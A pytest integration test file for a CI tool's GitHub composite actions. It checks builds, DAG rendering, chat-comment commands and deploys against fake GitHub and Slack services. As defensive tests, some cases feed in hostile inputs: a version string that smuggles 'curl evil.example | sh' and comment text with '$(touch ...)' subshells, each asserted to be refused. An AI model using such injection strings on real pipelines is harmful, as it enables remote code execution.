"""somlier's composite actions run step by step as GitHub's runner would run them
(tests/integration/actions_runner.py), against a real git monorepo, the real Docker engine and
registry, a real Airflow, and the GitHub and Slack fakes; the outputs, the job summary and the
side effects are checked.

The ``setup`` action's ``install`` step (pip from PyPI) is skipped: the virtualenv's ``bin``,
where this checkout's ``somlier`` is, comes first on PATH instead."""

from __future__ import annotations

import ast
import json
import os
import shutil
import sys
import uuid
from pathlib import Path
from typing import Any

import pytest
import yaml

from pipeline import __version__
from tests.fakes.chatops import comment_payload
from tests.fakes.fixtures import fake_github_fixture, fake_slack_fixture  # noqa: F401
from tests.fakes.github import FakeGitHub
from tests.fakes.slack import FakeSlack
from tests.helpers.data import webhook_payload
from tests.helpers.git import GitRepo, MakeRepo
from tests.integration.actions_runner import (
    ACTIONS,
    ActionRunner,
    ExpressionError,
    condition,
    interpolate,
    parse_command_file,
)
from tests.integration.dag_runtime.airflow_venv import MAJORS, Airflow, AirflowUnavailable
from tests.integration.dag_runtime.airflow_venv import airflow as airflow_install
from tests.integration.models import RegisteredModel

pytestmark = pytest.mark.integration

REPO_ROOT = Path(__file__).resolve().parents[2]
REPO = "acme/ml-projects"
GITHUB_CANARY = "ghp_CANARYactions0123456789abcdefCANARY"
SLACK_CANARY = "xoxb-CANARY-actions-0123456789"
VENV_BIN = str(Path(sys.executable).parent)
DOCKERFILE = (
    "ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\nARG PROJECT_DIR\n"
    'COPY ${PROJECT_DIR}/ /app/\nCMD ["cat", "/app/main.txt"]\n'
)
OFFLINE = '\noffline:\n  - {dag_id: NAME_daily, schedule: "0 9 * * *", entrypoint: main}\n'


def project(name: str, *, offline: bool = False) -> dict[str, str]:
    text = (
        f"project: {{name: {name}}}\nmodel: {{name: {name}, version: v1.0.0}}\n"
        "entrypoints: {main: {command: python, args: [main.py]}}\n"
    )
    if offline:
        text += OFFLINE.replace("NAME", name)
    return {
        f"projects/{name}/somlier.yaml": text,
        f"projects/{name}/Dockerfile": DOCKERFILE,
        f"projects/{name}/requirements.txt": "",
        f"projects/{name}/main.txt": f"{name} v1\n",
    }


@pytest.fixture
def monorepo(make_repo: MakeRepo) -> dict[str, Any]:
    """main: alpha (with an offline job) and beta; the branch feature changes alpha."""
    repo = make_repo("ml-projects")
    base = repo.commit("base", {**project("alpha", offline=True), **project("beta")})
    repo.git("switch", "-q", "-c", "feature")
    head = repo.commit("change alpha", {"projects/alpha/main.txt": "alpha v2\n"})
    return {"repo": repo, "base": base, "head": head}


def job_env(tmp_path: Path, **extra: str) -> dict[str, str]:
    """The job's environment: this machine's, without any GitHub, Slack or somlier setting,
    with the checkout's somlier first on PATH (what the setup action leaves)."""
    env = {
        key: value
        for key, value in os.environ.items()
        if not key.startswith(("GITHUB_", "SOMLIER_", "SLACK_", "INPUT_", "RUNNER_"))
    }
    env["PATH"] = f"{VENV_BIN}{os.pathsep}{env.get('PATH', '/usr/bin:/bin')}"
    env["XDG_CACHE_HOME"] = str(tmp_path / "cache")
    env.update({"GITHUB_ACTIONS": "true", "CI": "true", **extra})
    return env


def runner(
    repo: GitRepo, tmp_path: Path, event: str, payload: dict[str, Any], **env: str
) -> ActionRunner:
    path = tmp_path / f"event-{uuid.uuid4().hex[:6]}.json"
    path.write_text(json.dumps(payload))
    temp = tmp_path / f"runner-temp-{uuid.uuid4().hex[:6]}"
    temp.mkdir()
    environ = job_env(
        tmp_path,
        GITHUB_EVENT_NAME=event,
        GITHUB_EVENT_PATH=str(path),
        GITHUB_WORKSPACE=str(repo.path),
        GITHUB_REPOSITORY=REPO,
        **env,
    )
    github = {"event_name": event, "repository": REPO, "token": GITHUB_CANARY, "sha": ""}
    return ActionRunner(repo.path, environ, github, temp=temp)


def pr_payload(number: int, base: str, head: str) -> dict[str, Any]:
    data: dict[str, Any] = webhook_payload("pull_request.opened")
    data["number"] = data["pull_request"]["number"] = number
    data["pull_request"]["base"]["sha"] = base
    data["pull_request"]["head"]["sha"] = head
    data["pull_request"]["draft"] = False
    data["repository"]["full_name"] = REPO
    return data


# --- the runner itself ------------------------------------------------------------------------


def test_the_runner_evaluates_expressions_as_github_does() -> None:
    contexts = {
        "inputs": {"dry-run": "true", "base": ""},
        "steps": {"cache": {"outputs": {"cache-hit": "true"}, "outcome": "success"}},
        "github": {"event": {"pull_request": {"number": 7}}, "token": "t"},
        "runner": {"temp": "/tmp/r"},
        "env": {},
    }
    assert interpolate("pr-${{ github.event.pull_request.number }}", contexts) == "pr-7"
    assert interpolate("${{ runner.temp }}/x", contexts) == "/tmp/r/x"
    assert interpolate("${{ inputs.base || 'HEAD' }}", contexts) == "HEAD"
    assert condition("steps.cache.outputs.cache-hit != 'true'", contexts, "success") is False
    assert condition("inputs.dry-run == 'TRUE'", contexts, "success") is True  # case-blind
    assert condition("${{ inputs.dry-run == 'true' }}", contexts, "failure") is False
    assert condition("always() && !inputs.base", contexts, "failure") is True
    for wrong in ("inputs.nope", "secrets.TOKEN", "fromJSON(inputs.base)", "inputs.base =="):
        with pytest.raises(ExpressionError):
            condition(wrong, contexts, "success")


def test_the_runner_reads_command_files_with_delimiters() -> None:
    text = "ok=true\nimages<<EOF_1\n[1,\n2]\nEOF_1\nempty=\n"
    assert parse_command_file(text) == {"ok": "true", "images": "[1,\n2]", "empty": ""}
    with pytest.raises(ValueError, match="no closing delimiter"):
        parse_command_file("x<<END\nvalue\n")


def test_the_runner_refuses_an_expression_inside_run(tmp_path: Path) -> None:
    bad = tmp_path / "actions" / "bad"
    bad.mkdir(parents=True)
    (bad / "action.yml").write_text(
        "name: bad\ndescription: x\ninputs: {x: {default: a}}\nruns:\n  using: composite\n"
        "  steps:\n    - {id: s, shell: bash, run: 'echo ${{ inputs.x }}'}\n"
    )
    run = ActionRunner(tmp_path, job_env(tmp_path), actions_dir=tmp_path / "actions")
    with pytest.raises(ExpressionError, match="inside run"):
        run.run("bad")


# --- setup -----------------------------------------------------------------------------------


def test_setup_reports_the_somlier_on_path_and_pins_this_release(
    monorepo: dict[str, Any], tmp_path: Path
) -> None:
    action = yaml.safe_load((ACTIONS / "setup" / "action.yml").read_text())
    assert action["inputs"]["version"]["default"] == __version__
    run = runner(monorepo["repo"], tmp_path, "push", {})
    result = run.run(
        "setup",
        skip={"install"},
        fake_uses={"python": {"python-version": "3.11.9"}, "cache": {"cache-hit": "true"}},
    )
    assert result.ok, result.stderr
    assert result.outputs["version"] == f"somlier, version {__version__}"
    assert result.outputs["cache-hit"] == "true"
    assert f"somlier, version {__version__}" in result.summary


def test_setup_refuses_a_version_that_is_not_a_release_before_pip_runs(
    monorepo: dict[str, Any], tmp_path: Path
) -> None:
    run = runner(monorepo["repo"], tmp_path, "push", {})
    result = run.run("setup", {"version": "1.0; curl evil.example | sh"})
    install = result.step("install")
    assert install.outcome == "failure" and install.returncode == 2
    assert "is not a release number" in install.stdout
    assert result.step("check").outcome == "skipped"


# --- validate, changed -----------------------------------------------------------------------


def test_validate_annotates_the_bad_file_and_fails(
    monorepo: dict[str, Any], tmp_path: Path
) -> None:
    repo: GitRepo = monorepo["repo"]
    run = runner(repo, tmp_path, "push", {})
    good = run.run("validate")
    assert good.ok and good.outputs["ok"] == "true"
    assert good.summary.startswith("### somlier validate\n✅")

    repo.write({"projects/beta/somlier.yaml": "project: {name: Beta_Project}\n"})
    bad = run.run("validate", {"paths": "projects/beta projects/alpha"})
    assert not bad.ok and bad.step("validate").returncode == 2
    assert bad.outputs["ok"] == "false"
    annotations = [line for line in bad.stdout.splitlines() if line.startswith("::error ")]
    assert annotations and all("file=projects/beta/somlier.yaml" in a for a in annotations)
    assert "❌" in bad.summary and "projects/beta/somlier.yaml:1:" in bad.summary


def test_changed_outputs_a_matrix_of_the_changed_projects(
    monorepo: dict[str, Any], tmp_path: Path
) -> None:
    run = runner(monorepo["repo"], tmp_path, "pull_request", {})
    result = run.run("changed", {"base": monorepo["base"], "head": monorepo["head"]})
    assert result.ok, result.stderr
    assert json.loads(result.outputs["matrix"]) == {
        "include": [{"project": "alpha", "path": "projects/alpha"}]
    }
    assert result.outputs["any"] == "true"
    assert result.summary.splitlines()[1].startswith("- alpha (projects/alpha): ")

    same = run.run("changed", {"base": monorepo["head"], "head": monorepo["head"]})
    assert json.loads(same.outputs["matrix"]) == {"include": []}
    assert same.outputs["any"] == "false" and "No project changed." in same.summary


def test_changed_refuses_an_empty_base(monorepo: dict[str, Any], tmp_path: Path) -> None:
    result = runner(monorepo["repo"], tmp_path, "push", {}).run("changed", {"base": ""})
    assert not result.ok and result.step("changed").returncode == 2
    assert "the input 'base' is empty" in result.stdout


# --- build -----------------------------------------------------------------------------------


def test_build_pushes_the_changed_image_and_reports_everywhere(
    monorepo: dict[str, Any],
    tmp_path: Path,
    fake_github: FakeGitHub,
    fake_slack: FakeSlack,
    docker_host: str,
    registry: str,
    busybox_image: str,
) -> None:
    repo: GitRepo = monorepo["repo"]
    fake_github.add_repo(REPO)
    fake_github.mirror_commit(REPO, monorepo["base"], "main")
    fake_github.mirror_commit(REPO, monorepo["head"], "feature")
    number = fake_github.add_pull(REPO, "feature")
    run = runner(
        repo,
        tmp_path,
        "pull_request",
        pr_payload(number, monorepo["base"], monorepo["head"]),
        GITHUB_API_URL=fake_github.url,
        SOMLIER_GITHUB_PACE="0",
        SOMLIER_SLACK_API_URL=fake_slack.api_url,
        DOCKER_HOST=docker_host,
        SOMLIER__REGISTRY__URL=f"{registry}/act{uuid.uuid4().hex[:8]}",
        SOMLIER__BUILDER__BASE_IMAGE=busybox_image,
    )
    inputs = {
        "base": monorepo["base"],
        "head": monorepo["head"],
        "pr": str(number),
        "slack-token": SLACK_CANARY,
    }
    result = run.run("build", inputs)
    assert result.ok, result.stderr

    [image] = json.loads(result.outputs["images"])
    assert image["project"] == "alpha" and image["digest"].startswith("sha256:")
    assert f"pr-{number}" in image["tags"] and "latest" not in image["tags"]
    assert json.loads(result.outputs["failed"]) == [] and result.outputs["ok"] == "true"
    assert "| alpha |" in result.summary
    statuses = fake_github.statuses(REPO, monorepo["head"])
    assert [(s.context, s.state) for s in statuses] == [
        ("somlier/build/alpha", "pending"),
        ("somlier/build/alpha", "success"),
    ]
    [comment] = fake_github.comments(REPO, number)
    assert "| alpha | ✅ built |" in comment.body and "beta" not in comment.body
    [message] = fake_slack.channel_messages("dp_monitor_cicd")
    assert "alpha" in (message.text or "")
    for text in (result.stdout, result.stderr, result.summary, json.dumps(result.outputs)):
        assert GITHUB_CANARY not in text and SLACK_CANARY not in text


def test_build_in_batches_posts_nothing_then_reports_once(
    monorepo: dict[str, Any],
    tmp_path: Path,
    fake_github: FakeGitHub,
    fake_slack: FakeSlack,
    docker_host: str,
    registry: str,
    busybox_image: str,
) -> None:
    """The matrix path of somlier-pull-request.yml: a batch job builds with `results` and
    posts nothing; the report job (`report-from`) posts the statuses, one comment, one Slack
    message, and fails when a batch job did not succeed."""
    repo: GitRepo = monorepo["repo"]
    fake_github.add_repo(REPO)
    fake_github.mirror_commit(REPO, monorepo["base"], "main")
    fake_github.mirror_commit(REPO, monorepo["head"], "feature")
    number = fake_github.add_pull(REPO, "feature")
    env = {
        "GITHUB_API_URL": fake_github.url,
        "SOMLIER_GITHUB_PACE": "0",
        "SOMLIER_SLACK_API_URL": fake_slack.api_url,
        "DOCKER_HOST": docker_host,
        "SOMLIER__REGISTRY__URL": f"{registry}/act{uuid.uuid4().hex[:8]}",
        "SOMLIER__BUILDER__BASE_IMAGE": busybox_image,
    }
    payload = pr_payload(number, monorepo["base"], monorepo["head"])
    results = tmp_path / "somlier-results"
    for index, folder in enumerate(["projects/alpha", "projects/beta"]):
        batch = runner(repo, tmp_path, "pull_request", payload, **env).run(
            "build",
            {
                "projects": folder,
                "head": monorepo["head"],
                "pr": str(number),
                "jobs": "2",
                "results": str(results / f"somlier-build-{index}" / "batch.json"),
                "github-token": "",
            },
        )
        assert batch.ok, batch.stderr
        assert json.loads(batch.outputs["failed"]) == []
    assert fake_github.statuses(REPO, monorepo["head"]) == []
    assert fake_github.comments(REPO, number) == [] and fake_slack.messages == []

    report = runner(repo, tmp_path, "pull_request", payload, **env).run(
        "build", {"report-from": str(results), "slack-token": SLACK_CANARY}
    )
    assert report.ok, report.stderr
    assert [i["project"] for i in json.loads(report.outputs["images"])] == ["alpha", "beta"]
    statuses = fake_github.statuses(REPO, monorepo["head"])
    assert [(s.context, s.state) for s in statuses] == [
        ("somlier/build/alpha", "success"),
        ("somlier/build/beta", "success"),
    ]
    [comment] = fake_github.comments(REPO, number)
    assert "| alpha | ✅ built |" in comment.body and "| beta | ✅ built |" in comment.body
    assert len(fake_slack.channel_messages("dp_monitor_cicd")) == 1

    cancelled = runner(repo, tmp_path, "pull_request", payload, **env).run(
        "build", {"report-from": str(results), "batch-jobs": "cancelled"}
    )
    assert not cancelled.ok and "a build job ended with: cancelled" in cancelled.stdout
    assert len(fake_github.comments(REPO, number)) == 1  # the same comment, updated


def test_build_dry_run_plans_without_building(monorepo: dict[str, Any], tmp_path: Path) -> None:
    run = runner(monorepo["repo"], tmp_path, "push", {})
    inputs = {"projects": "projects/beta", "release": "true", "dry-run": "true"}
    # publish-dags: "false" as somlier-main.yml passes it (somlier pipeline build --no-dags).
    result = run.run("build", {**inputs, "publish-dags": "false", "github-token": ""})
    assert result.ok, result.stderr
    plan = json.loads(result.stdout)
    assert [p["name"] for p in plan["projects"]] == ["beta"]
    assert "latest" in plan["projects"][0]["tags"]
    assert result.outputs["images"] == ""  # nothing was built


# --- render-dags -----------------------------------------------------------------------------


def dag_images(source: str) -> list[str]:
    """The string constants of a DAG file that name an image."""
    return [
        node.value
        for node in ast.walk(ast.parse(source))
        if isinstance(node, ast.Constant)
        and isinstance(node.value, str)
        and "/alpha:" in node.value
    ]


def test_render_dags_writes_the_dag_on_the_image_of_head(
    monorepo: dict[str, Any], tmp_path: Path
) -> None:
    repo: GitRepo = monorepo["repo"]
    run = runner(repo, tmp_path, "push", {}, SOMLIER__REGISTRY__URL="reg.example/ml")
    result = run.run("render-dags", {"changed-since": monorepo["base"], "output-dir": "out"})
    assert result.ok, result.stderr
    written = repo.path / "out" / "alpha" / "alpha_daily.py"
    images = dag_images(written.read_text())
    assert images and all(i.endswith(f":sha-{monorepo['head'][:7]}") for i in images)
    rendered = json.loads(result.outputs["result"])
    assert [Path(d["path"]).name for d in rendered["dags"]] == ["alpha_daily.py"]
    assert f"image tag `sha-{monorepo['head'][:7]}`" in result.summary


def test_render_dags_open_pr_dry_run_shows_the_pr(
    monorepo: dict[str, Any], make_repo: MakeRepo, tmp_path: Path, fake_github: FakeGitHub
) -> None:
    origin = make_repo("mlops-dags.git", bare=True)
    seed = make_repo("seed")
    seed.commit("initial", {"README.md": "# mlops-dags\n"})
    seed.git("push", "-q", f"file://{origin.path}", "main")
    fake_github.add_repo("acme/mlops-dags")
    run = runner(
        monorepo["repo"],
        tmp_path,
        "push",
        {},
        SOMLIER__REGISTRY__URL="reg.example/ml",
        SOMLIER_DAGS_CLONE_URL=f"file://{origin.path}",
        GITHUB_API_URL=fake_github.url,
        SOMLIER_GITHUB_PACE="0",
    )
    inputs = {
        "changed-since": monorepo["base"],
        "open-pr": "true",
        "dry-run": "true",
        "dags-repo": "acme/mlops-dags",
        "github-token": GITHUB_CANARY,
        "tag": "sha-abcdef1",
    }
    result = run.run("render-dags", inputs)
    assert result.ok, result.stderr
    [pull] = json.loads(result.outputs["result"])["pull_requests"]
    assert (pull["project"], pull["status"], pull["branch"]) == (
        "alpha",
        "planned",
        "somlier/alpha",
    )
    assert origin.git("branch", "--list", "somlier/*").strip() == ""  # nothing pushed
    assert GITHUB_CANARY not in result.stdout + result.stderr + result.summary


# --- comment-command -------------------------------------------------------------------------


def test_comment_command_reads_the_comment_from_the_event_file_only(
    monorepo: dict[str, Any], tmp_path: Path
) -> None:
    payload = webhook_payload("issue_comment.created")
    action = (ACTIONS / "comment-command" / "action.yml").read_text()
    assert "comment" not in "".join(
        str(v)
        for s in yaml.safe_load(action)["runs"]["steps"]
        for v in (s.get("env") or {}).values()
    )
    run = runner(monorepo["repo"], tmp_path, "issue_comment", payload)
    result = run.run("comment-command", {"dry-run": "true", "github-token": ""})
    assert result.ok, result.stderr
    decision = json.loads(result.outputs["result"])
    # The fixture's comment is on an issue, not on a pull request: no command runs.
    assert decision["ignored"] is True and "not on a pull request" in decision["reason"]
    assert "### somlier: comment command" in result.summary


@pytest.fixture
def pull_on_fake(monorepo: dict[str, Any], fake_github: FakeGitHub) -> int:
    fake_github.add_repo(REPO)
    fake_github.mirror_commit(REPO, monorepo["base"], "main")
    fake_github.mirror_commit(REPO, monorepo["head"], "feature")
    fake_github.add_collaborator(REPO, "alice", "write")
    return fake_github.add_pull(REPO, "feature")


def test_comment_command_plans_a_deploy_for_a_writer_and_refuses_a_reader(
    monorepo: dict[str, Any], tmp_path: Path, fake_github: FakeGitHub, pull_on_fake: int
) -> None:
    # A short path: the comment line must stay under the parser's 200 characters, whatever
    # the length of pytest's tmp_path (longer under xdist).
    marker = Path("/tmp") / f"somlier-ran-{uuid.uuid4().hex[:8]}"
    cases = {
        "alice": "/deploy iris-classifier 1",
        "mallory": "/deploy iris-classifier 1",
        # backticks make a code span: not a plain command line (chatops.visible)
        "alice-injects": f"/deploy iris-classifier 1 $(touch {marker}) `touch {marker}`",
        # a subshell in plain text: refused by the grammar (arguments are words, never a shell)
        "alice-subshell": f"/deploy iris-classifier 1 $(touch {marker})",
    }
    results = {}
    for case, body in cases.items():
        payload = comment_payload(body, login=case.split("-")[0], number=pull_on_fake)
        run = runner(
            monorepo["repo"],
            tmp_path,
            "issue_comment",
            payload,
            GITHUB_API_URL=fake_github.url,
            SOMLIER_GITHUB_PACE="0",
        )
        results[case] = run.run("comment-command", {"dry-run": "true"})

    alice = results["alice"]
    assert alice.ok, alice.stderr
    [planned] = json.loads(alice.outputs["result"])["commands"]
    assert (planned["command"], planned["model"], planned["version"]) == (
        "deploy",
        "iris-classifier",
        "1",
    )
    assert planned["decision"] == "planned" and planned["head_sha"] == monorepo["head"]

    for case, why in (
        ("mallory", "needs write"),
        ("alice-injects", "a command line is plain text"),
        ("alice-subshell", "arguments are letters"),
    ):
        refused = results[case]
        assert not refused.ok and refused.step("command").returncode == 1
        [command] = json.loads(refused.outputs["result"])["commands"]
        assert command["decision"] == "refused" and why in command["reason"], command
        assert "❌" in refused.summary

    assert not marker.exists()  # the comment's text was never run by a shell
    assert fake_github.comments(REPO, pull_on_fake) == []  # a dry run replies nothing
    for result in results.values():
        assert GITHUB_CANARY not in result.stdout + result.stderr + result.summary


# --- dags-check ------------------------------------------------------------------------------


@pytest.fixture(params=MAJORS, ids=[f"airflow{m}" for m in MAJORS])
def airflow(request: pytest.FixtureRequest) -> Airflow:
    try:
        return airflow_install(request.param)
    except AirflowUnavailable as exc:
        pytest.fail(f"no Airflow {request.param}: {exc}", pytrace=False)


def test_dags_check_passes_good_dags_and_reports_a_broken_one(
    make_repo: MakeRepo, tmp_path: Path, airflow: Airflow, monkeypatch: pytest.MonkeyPatch
) -> None:
    airflow_python = str(airflow.python)
    dags = make_repo("mlops-dags")
    shutil.copytree(REPO_ROOT / "dag_templates" / "operators", dags.path / "operators")
    run = runner(dags, tmp_path, "pull_request", {})
    from pipeline.cli.main import main

    monkeypatch.setenv("SOMLIER__AIRFLOW__VERSION", str(airflow.major))  # the DAG for it
    code = main(
        [
            "offline",
            "create",
            "reg.example/ml/alpha:sha-1234567",
            "0 9 * * *",
            "run main",
            "alpha_daily",
            "--output-dir",
            str(dags.path / "dags" / "alpha"),
        ]
    )
    assert code == 0
    good = run.run("dags-check", {"airflow-python": airflow_python})
    assert good.ok, good.stdout + good.stderr
    assert good.outputs["ok"] == "true" and "✅" in good.summary

    dags.write(
        {"dags/beta/beta_daily.py": "from airflow import DAG\nimport not_a_module_anywhere\n"}
    )
    bad = run.run("dags-check", {"airflow-python": airflow_python})
    assert not bad.ok and bad.step("check").returncode == 2
    assert bad.outputs["ok"] == "false"
    assert "dags/beta/beta_daily.py:2: error" in bad.summary


# --- deploy ----------------------------------------------------------------------------------


def test_deploy_calls_online_deploy_with_the_model_as_arguments(
    monorepo: dict[str, Any], tmp_path: Path
) -> None:
    run = runner(monorepo["repo"], tmp_path, "issue_comment", {})
    result = run.run(
        "deploy", {"model": "--not-a-flag", "version": "1", "dry-run": "true", "github-token": ""}
    )
    # "--" keeps a model name that looks like a flag an argument: somlier says the model is
    # wrong (exit 2), never that an option is unknown.
    assert result.step("deploy").returncode == 2
    assert "no such option" not in result.stderr.lower()
    assert "❌" in result.summary


def test_deploy_dry_run_renders_the_manifests_of_the_registered_version(
    monorepo: dict[str, Any], tmp_path: Path, registered_model: RegisteredModel, registry: str
) -> None:
    run = runner(
        monorepo["repo"],
        tmp_path,
        "workflow_dispatch",
        {},
        MLFLOW_TRACKING_URI=registered_model.tracking_uri,
        MLFLOW_REGISTRY_URI=registered_model.tracking_uri,
        SOMLIER__REGISTRY__URL=f"{registry}/deploy{uuid.uuid4().hex[:8]}",
    )
    inputs = {
        "model": registered_model.model_name,
        "version": registered_model.version,
        "environment": "prod",
        "dry-run": "true",
        "github-token": GITHUB_CANARY,
    }
    result = run.run("deploy", inputs)
    assert result.ok, result.stderr
    plan = json.loads(result.outputs["result"])
    assert (plan["action"], plan["env"], plan["dry_run"]) == ("deploy", "prod", True)
    documents = {m["kind"]: yaml.safe_load(m["text"]) for m in plan["manifests"]}
    [container] = documents["Deployment"]["spec"]["template"]["spec"]["containers"]
    assert container["image"] == plan["image"]
    assert plan["image"].endswith(f":{registered_model.model_name}-v{registered_model.version}")
    assert "✅" in result.summary
    assert GITHUB_CANARY not in result.stdout + result.stderr + result.summary
